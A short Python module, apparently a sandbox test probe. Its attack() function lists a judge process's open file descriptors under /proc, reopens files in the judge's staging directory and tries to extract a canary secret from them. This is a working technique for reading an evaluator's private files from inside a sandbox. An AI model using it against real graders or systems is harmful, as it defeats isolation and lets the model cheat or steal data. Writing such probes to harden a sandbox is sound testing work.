"""Opens again what the judge has open.

shows: canary marker
layers: files user judge
"""
import os

import outside


def attack():
    for pid in outside.judges():
        for name in os.listdir(f"/proc/{pid}/fd"):
            link = os.readlink(f"/proc/{pid}/fd/{name}")
            if link.startswith(outside.place("stage")):
                with open(f"/proc/{pid}/fd/{name}", "rb") as file:
                    return outside.secret(file.read()) or f"{link} of the judge is open"
